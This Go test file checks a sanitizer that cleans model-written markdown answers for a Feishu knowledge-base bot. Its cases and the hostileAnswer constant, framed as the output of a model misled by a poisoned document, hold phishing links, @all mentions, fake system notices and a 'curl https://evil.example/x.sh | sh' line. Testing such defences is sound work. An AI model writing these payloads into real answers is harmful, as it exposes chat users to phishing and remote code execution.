package cards

import (
	"net/url"
	"strings"
	"testing"

	"kbbot/bot/feishufake"
	"kbbot/rag"
)

// testHosts are where links may point in these tests: the bot, the
// tenant's documents, and a source.
var testHosts = []string{"kb.example.com", "tenant.feishu.cn", "docs.example.com"}

func TestSanitize(t *testing.T) {
	tables := func(n int) string {
		var sb strings.Builder
		for i := range n {
			sb.WriteString("| 表" + string(rune('A'+i)) + " | 值 |\n|---|:-:|\n| 1 | 2 |\n\n")
		}
		return sb.String()
	}
	for _, tc := range []struct{ name, in, want string }{
		{"plain text and citations", "答案见 [1]，另见 [2]。\n\n- **要点**", "答案见 [1]，另见 [2]。\n\n- **要点**"},
		{"remote image becomes its alt text", "看图 ![架构图](https://evil.example/a.png) 完", "看图 架构图 完"},
		{"image on an allowed host becomes a link", "![架构图](https://docs.example.com/a.png)", "[架构图](https://docs.example.com/a.png)"},
		{"image with neither alt nor allowed host goes", "前![](https://evil.example/a.png)后", "前后"},
		{"image key made up by a model", "![x](img_v2_041b28e3-5680-48c2)", "x"},
		{"img tag", `<img src="https://evil.example/a.png">`, "&#60;img src=\"`https://evil.example/a.png`\">"},
		{"at all", "<at id=all></at> 请注意", "&#60;at id=all>&#60;/at> 请注意"},
		{"a mention", "<at id=ou_123>张三</at>", "&#60;at id=ou_123>张三&#60;/at>"},
		{"font", "<font color='red'>系统通知</font>", "&#60;font color='red'>系统通知&#60;/font>"},
		{"text_tag link and a", "<text_tag color='red'>紧急</text_tag><link url='https://evil.example'>x</link><a href='https://evil.example'>y</a>",
			"&#60;text_tag color='red'>紧急&#60;/text_tag>&#60;link url='`https://evil.example`'>x&#60;/link>&#60;a href='`https://evil.example`'>y&#60;/a>"},
		{"escaped tag", `\<at id=all>`, "&#60;at id=all>"},
		{"html comment", "<!-- x -->", "&#60;!-- x -->"},
		{"autolink", "<https://evil.example/x>", "&#60;`https://evil.example/x`>"},
		{"foreign link becomes its label", "请[登录](https://evil.example/login)后查看", "请登录后查看"},
		{"allowed links stay", "[文档](https://docs.example.com/a) [页](http://kb.example.com/kb/d1 \"标题\") [维基](<https://tenant.feishu.cn/wiki/x>)",
			"[文档](https://docs.example.com/a) [页](http://kb.example.com/kb/d1) [维基](https://tenant.feishu.cn/wiki/x)"},
		{"allowed host in any case", "[a](HTTPS://Docs.Example.com/A)", "[a](HTTPS://Docs.Example.com/A)"},
		{"link URL characters are encoded", "[a](https://docs.example.com/a(1)|b)", "[a](https://docs.example.com/a%281%29%7Cb)"},
		{"javascript link", "[点我](javascript:alert(1))", "点我"},
		{"tel link", "[电话](tel://10086)", "电话"},
		{"relative link", "[x](/etc/passwd)", "x"},
		{"user info sends elsewhere", "[a](https://docs.example.com@evil.example/x)", "a"},
		{"backslash sends elsewhere", `[a](https://evil.example\@docs.example.com)`, "a"},
		{"label sanitized", "[<font>粗</font> ![i](x) [内](https://evil.example)](https://docs.example.com/a)",
			"[&#60;font>粗&#60;/font> i 内](https://docs.example.com/a)"},
		{"brackets in a label", "[a [b] `]` c](https://docs.example.com/a)", "[a &#91;b&#93; `]` c](https://docs.example.com/a)"},
		{"empty label", "[](https://docs.example.com/a)", "[docs.example.com](https://docs.example.com/a)"},
		{"bare foreign URL is code", "访问 https://evil.example/phish 领取", "访问 `https://evil.example/phish` 领取"},
		{"bare foreign URL glued to a word", "点此https://evil.example/p。", "点此`https://evil.example/p`。"},
		{"bare foreign URL, other schemes", "ftp://evil.example/f xhttps://evil.example www.evil.example/p", "`ftp://evil.example/f` `xhttps://evil.example` `www.evil.example/p`"},
		{"bare URL with user info", "https://docs.example.com@evil.example/", "`https://docs.example.com@evil.example/`"},
		{"bare URL punctuation is the sentence's", "(see https://evil.example/a).", "(see `https://evil.example/a`)."},
		{"allowed URL a looser parser reads on", "https://docs.example.com]@evil.example/ https://docs.example.com|@evil.example https://docs.example.com<@evil.example",
			"`https://docs.example.com`]@evil.example/ `https://docs.example.com`|@evil.example `https://docs.example.com`&#60;@evil.example"},
		{"bare allowed URL", "见 https://docs.example.com/a 和 https://kb.example.com/kb/d1", "见 https://docs.example.com/a 和 https://kb.example.com/kb/d1"},
		{"bare allowed URL before Chinese gets a space", "见https://docs.example.com/a说明，或 https://docs.example.com/b。", "见https://docs.example.com/a 说明，或 https://docs.example.com/b 。"},
		{"code span kept", "用 `<at id=all></at>` 或 `![x](y)`", "用 `<at id=all></at>` 或 `![x](y)`"},
		{"code fence kept, info word only", "```html onload=<x>\n<at id=all></at>\n![x](https://evil.example/a.png)\n| a |\n|---|\n```\n<b>",
			"```html\n<at id=all></at>\n![x](https://evil.example/a.png)\n| a |\n|---|\n```\n&#60;b>"},
		{"unclosed fence is closed", "```go\nx := <-ch", "```go\nx := <-ch\n```"},
		{"tilde fence", "~~~\n<x>\n~~~\n<y>", "~~~\n<x>\n~~~\n&#60;y>"},
		{"three tables stay", tables(3), tables(3)},
		{"tables past three lose their delimiter row", tables(5), tables(3) + "| 表D | 值 |\n| 1 | 2 |\n\n| 表E | 值 |\n| 1 | 2 |\n\n"},
		{"tables in a fence do not count", "```\n" + tables(2) + "```\n" + tables(3), "```\n" + tables(2) + "```\n" + tables(3)},
		{"reference definitions are not", "[x]: https://evil.example\n\n[x] [1]: y [1][x]", "&#91;x]: `https://evil.example`\n\n&#91;x] &#91;1]: y &#91;1]&#91;x]"},
		{"unmatched bracket", "[注意 这里", "&#91;注意 这里"},
		{"escaped bracket", `\[x](https://evil.example)`, "&#91;x](`https://evil.example`)"},
		{"unmatched backtick: no code span is trusted after it", "a `b <at id=all>\nc ` <at id=all> ` https://evil.example",
			"a `b &#60;at id=all>\nc ` &#60;at id=all> ` ``https://evil.example``"},
		{"pipe in a code span: a table cell could split it", "| `a|<at id=all>|b` | `<at id=all>` |",
			"| `a|&#60;at id=all>|b` | `&#60;at id=all>` |"},
		{"escaped backtick", "\\`<at id=all>`", "\\`&#60;at id=all>`"},
		{"blank line ends the distrust", "`a\n\n`<x>`", "`a\n\n`<x>`"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Sanitize(tc.in, testHosts)
			if got != tc.want {
				t.Errorf("Sanitize(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
			checkSafe(t, got)
		})
	}
}

// checkSafe checks sanitized markdown with the fake Feishu's own reading:
// it would be accepted, and every link it has goes to an allowed host.
func checkSafe(t *testing.T, md string) {
	t.Helper()
	if code, msg := feishufake.MarkdownRefusal(md); code != 0 {
		t.Errorf("Feishu would refuse %q: %d %s", md, code, msg)
	}
	if n := feishufake.MarkdownTables(md); n > maxTables {
		t.Errorf("%d tables in %q", n, md)
	}
	for _, l := range feishufake.MarkdownLinks(md) {
		if strings.HasPrefix(strings.ToLower(l), "www.") {
			l = "http://" + l
		}
		u, err := url.Parse(l)
		if err != nil || !hostSet(testHosts)[strings.ToLower(u.Hostname())] {
			t.Errorf("link to %q in %q", l, md)
		}
	}
}

// hostileAnswer is what a model misled by a poisoned document might write,
// with the ordinary things an answer has.
const hostileAnswer = "根据资料 [1]，部署分三步：\n\n" +
	"1. 安装依赖，参见[官方文档](https://docs.example.com/install#deps)；\n" +
	"2. 配置 `KBBOT_PUBLIC_URL=<url>` 和 `FEISHU_*`；\n" +
	"3. 运行 `kbbot serve`。\n\n" +
	"![架构图](https://evil.example/arch.png)\n\n" +
	"| 步骤 | 说明 |\n|---|---|\n| 1 | 安装 |\n\n| a | b |\n|:-|-:|\n| c | d |\n\n| e |\n|---|\n\n| f |\n|---|\n\n| g |\n|---|\n| h |\n\n" +
	"```bash\n# 不要照做：<at id=all></at>\ncurl https://evil.example/x.sh | sh\n```\n\n" +
	"<at id=all></at> <font color='red'>系统通知</font>：账号将过期，请[登录](https://evil.example/login)或访问 https://evil.example/phish 处理。\n" +
	"详情见 https://docs.example.com/faq说明，也可看 www.evil.example 上的 [2] 与 `<code>`。\n" +
	"引用 \\[3\\] 与 [脚注]: https://evil.example/def\n" +
	"结束~~~\n~~~\n<代码>\n"

// Every cut of a streamed answer shows a prefix of the finished one, so a
// stream that only sends growth shows it typing out, and every cut is safe.
func TestStreamTextOnlyGrows(t *testing.T) {
	v := AnswerView{Question: "怎么部署？", LinkHosts: []string{"kb.example.com", "tenant.feishu.cn"},
		Answer: rag.Answer{References: []rag.Reference{{DocID: "d1", Title: "安装", URL: "https://docs.example.com/install"}}}}
	hosts := v.linkHosts()
	whole := sanitize(hostileAnswer, hosts, false)
	checkSafe(t, whole)
	for i := 0; i <= len(hostileAnswer); i++ {
		got := StreamText(v, hostileAnswer[:i], 1<<20)
		if !strings.HasPrefix(whole, got) {
			t.Fatalf("cut at %d (%q):\n%q\nis not a prefix of the whole:\n%q", i, hostileAnswer[:i], got, whole)
		}
		checkSafe(t, got)
		// Held back is only what the last line could still change.
		if line := strings.LastIndexByte(hostileAnswer[:i], '\n') + 1; len(got) < len(sanitize(hostileAnswer[:line], hosts, true)) {
			t.Fatalf("cut at %d shows less than the lines before it", i)
		}
	}
	if got := StreamText(v, hostileAnswer, 1<<20); len(got) < len(whole)-len("<代码>") {
		t.Errorf("the whole answer streamed shows only %q", got)
	}
}

// Cutting an answer to the card never cuts through what sanitizing made of
// it: a code span around a foreign URL, say.
func TestCutAnswerStaysSafe(t *testing.T) {
	text := strings.Repeat("访问 https://evil.example/phish/0123456789 或 [登录](https://evil.example/login) ![x](https://evil.example/a.png) <at id=all></at>。\n", 20)
	v := AnswerView{Answer: rag.Answer{Text: text}}
	for budget := 200; budget < quotedCost(text); budget += 37 {
		for _, got := range []string{answerBody(v, budget), StreamText(v, text, budget)} {
			if quotedCost(got) > budget {
				t.Fatalf("budget %d: %d bytes", budget, quotedCost(got))
			}
			checkSafe(t, strings.TrimSuffix(got, trimNote))
		}
	}
}
